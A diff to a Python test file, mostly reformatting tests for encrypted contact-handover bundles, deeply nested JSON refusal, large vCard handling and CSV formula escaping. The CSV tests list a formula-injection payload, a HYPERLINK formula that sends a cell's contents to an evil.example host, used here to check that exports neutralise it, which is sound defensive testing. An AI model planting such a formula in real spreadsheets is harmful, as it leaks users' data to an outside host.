@@ -22,6 +22,7 @@ from hrd_tui.services import contact_io, contacts, handover
 from hrd_tui.services.handover import document, sealing
 from hrd_tui.services.history import jsonable
 
+
 @pytest.fixture
 def session(opened):  # type: ignore[no-untyped-def]
     with opened.store.session() as s:
@@ -38,11 +39,18 @@ def sealed(compressed: bytes, passphrase: str = BUNDLE_PASSPHRASE) -> bytes:
     params = handover.default_params()
     salt, nonce = os.urandom(sealing.SALT_BYTES), os.urandom(sealing.NONCE_BYTES)
     header = {
-        "format": sealing.BUNDLE_FORMAT, "version": sealing.BUNDLE_VERSION,
-        "kdf": {"name": "argon2id", "time_cost": params.time_cost, "memory_kib": params.memory_kib,
-                "parallelism": params.parallelism, "salt": sealing._b64(salt)},
+        "format": sealing.BUNDLE_FORMAT,
+        "version": sealing.BUNDLE_VERSION,
+        "kdf": {
+            "name": "argon2id",
+            "time_cost": params.time_cost,
+            "memory_kib": params.memory_kib,
+            "parallelism": params.parallelism,
+            "salt": sealing._b64(salt),
+        },
         "cipher": {"name": "aes-256-gcm", "nonce": sealing._b64(nonce)},
-        "compression": "zlib", "length": len(compressed) + sealing.TAG_BYTES,
+        "compression": "zlib",
+        "length": len(compressed) + sealing.TAG_BYTES,
     }
     prefix = sealing.MAGIC + sealing._canonical(header) + b"\n"
     return prefix + AESGCM(sealing._bundle_key(passphrase, salt, params)).encrypt(nonce, compressed, prefix)
@@ -50,7 +58,7 @@ def sealed(compressed: bytes, passphrase: str = BUNDLE_PASSPHRASE) -> bytes:
 
 def deep_document(depth: int) -> bytes:
     """A handover document whose contacts list nests ``depth`` lists deep."""
-    return (b'{"format":"hrd-tui-handover","version":1,"contacts":' + b"[" * depth + b"]" * depth + b"}")
+    return b'{"format":"hrd-tui-handover","version":1,"contacts":' + b"[" * depth + b"]" * depth + b"}"
 
 
 def small_deep_bundle() -> bytes:
@@ -58,6 +66,7 @@ def small_deep_bundle() -> bytes:
 
 
 # -- handover bundles ---------------------------------------------------------------
+
 
 @pytest.mark.parametrize("depth", [2_000, 20_000, 100_000])
 def test_deeply_nested_bundles_are_refused_not_a_recursion_error(depth: int) -> None:
@@ -74,8 +83,7 @@ def test_a_bundle_of_694_bytes_nesting_far_too_deep_is_refused() -> None:
 
 
 def test_nesting_inside_strings_is_text_not_depth() -> None:
-    doc = {"format": "hrd-tui-handover", "version": 1,
-           "contacts": [{"id": "x", "notes": "[" * 50_000 + '\\"{' * 1000}]}
+    doc = {"format": "hrd-tui-handover", "version": 1, "contacts": [{"id": "x", "notes": "[" * 50_000 + '\\"{' * 1000}]}
     plain = zlib.compress(json.dumps(doc).encode())
     assert handover.open_sealed(sealed(plain), BUNDLE_PASSPHRASE)["contacts"][0]["notes"].startswith("[[[")
 
@@ -164,8 +172,13 @@ MEASURE = textwrap.dedent("""
 
 
 def measured(path: Path) -> dict:
-    out = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True, text=True, timeout=300,
-                         env={**os.environ, "HRD_TUI_TEST_KDF": "1"})
+    out = subprocess.run(
+        [sys.executable, "-c", MEASURE, str(path)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "HRD_TUI_TEST_KDF": "1"},
+    )
     assert out.returncode == 0, out.stderr[-2000:]
     return json.loads(out.stdout.strip().splitlines()[-1])
 
@@ -175,8 +188,12 @@ def photo_vcard(path: Path, megabytes: int = 20) -> Path:
 
     photo = base64.b64encode(os.urandom(megabytes * 3 << 18)).decode()  # megabytes MB of base64
     folded = "\r\n ".join(photo[i : i + 74] for i in range(0, len(photo), 74))
-    path.write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Núñez\r\nX-HRD-CODENAME:Heron-101\r\n"
-                    f"PHOTO;ENCODING=b;TYPE=JPEG:{folded}\r\nEND:VCARD\r\n", encoding="utf-8", newline="")
+    path.write_text(
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Núñez\r\nX-HRD-CODENAME:Heron-101\r\n"
+        f"PHOTO;ENCODING=b;TYPE=JPEG:{folded}\r\nEND:VCARD\r\n",
+        encoding="utf-8",
+        newline="",
+    )
     return path
 
 
@@ -189,9 +206,11 @@ def test_a_vcard_with_a_20_mb_photo_skips_the_photo_in_bounded_memory(tmp_path: 
 
 
 def test_a_vcard_photo_is_never_decoded_and_the_card_imports() -> None:
-    text = ("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana Núñez\r\nPHOTO:data:image/jpeg;base64,AAAA\r\n"
-            "item1.LOGO;ENCODING=b:AAAA\r\nKEY;ENCODING=BASE64:AAAA\r\nX-CUSTOM:kept out\r\nEMAIL:ana@example.org\r\n"
-            "END:VCARD\r\n")
+    text = (
+        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana Núñez\r\nPHOTO:data:image/jpeg;base64,AAAA\r\n"
+        "item1.LOGO;ENCODING=b:AAAA\r\nKEY;ENCODING=BASE64:AAAA\r\nX-CUSTOM:kept out\r\nEMAIL:ana@example.org\r\n"
+        "END:VCARD\r\n"
+    )
     (row,) = contact_io.parse(text, "vcard").rows
     assert row.ok and row.data["name"] == "Ana Núñez" and row.data["email"] == "ana@example.org"
     assert any("PHOTO" in n and "LOGO" in n and "KEY" in n for n in row.notes), row.notes
@@ -200,8 +219,10 @@ def test_a_vcard_photo_is_never_decoded_and_the_card_imports() -> None:
 def test_a_vcard_property_too_long_is_that_cards_error(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(contact_io, "MAX_PROPERTY_CHARS", 10_000)
     note = "\r\n ".join(["n" * 70] * 200)  # 14,000 characters, folded
-    text = (f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long\r\nNOTE:{note}\r\nEND:VCARD\r\n"
-            "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Short\r\nEND:VCARD\r\n")
+    text = (
+        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long\r\nNOTE:{note}\r\nEND:VCARD\r\n"
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Short\r\nEND:VCARD\r\n"
+    )
     first, second = contact_io.parse(text, "vcard").rows
     assert not first.ok and "too long" in str(first.issues[0])
     assert second.ok and second.data["name"] == "Short"
@@ -246,14 +267,15 @@ def test_too_many_records_are_refused_in_a_contact_file(fmt: str, monkeypatch: p
 
 # -- CSV formulas ------------------------------------------------------------------------
 
-FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1 555 0100", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturn"]
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturn"]
 
 
 def test_csv_export_neutralises_formulas_and_the_import_gives_them_back(session) -> None:  # type: ignore[no-untyped-def]
     names = [*FORMULAS, "'Quoted already", "'=looks escaped", "''@two", "Plain"]
     for n, name in enumerate(names):
-        contacts.create_contact(session, {"name": name, "codename": f"F-{n:02d}", "organisation": name,
-                                          "phone": "+1 555 0100"})
+        contacts.create_contact(
+            session, {"name": name, "codename": f"F-{n:02d}", "organisation": name, "phone": "+1 555 0100"}
+        )
     session.flush()
     exported = contact_io.export_csv(session, real_names=True)
     import csv
@@ -261,7 +283,7 @@ def test_csv_export_neutralises_formulas_and_the_import_gives_them_back(session)
 
     rows = list(csv.DictReader(io.StringIO(exported, newline="")))
     by_code = {r["codename"]: r for r in rows}
-    for n, name in enumerate(names):
+    for n in range(len(names)):
         cell = by_code[f"F-{n:02d}"]["name"]
         assert cell[0] not in "=+-@\t\r", cell
         assert by_code[f"F-{n:02d}"]["phone"] == "'+1 555 0100"
@@ -278,6 +300,7 @@ def test_a_hand_written_apostrophe_is_kept() -> None:
 
 
 # -- invisible characters ------------------------------------------------------------------
+
 
 def test_invisible_characters_do_not_hide_a_duplicate(session) -> None:  # type: ignore[no-untyped-def]
     contacts.create_contact(session, {"name": "Ana Núñez", "codename": "Heron-101"})
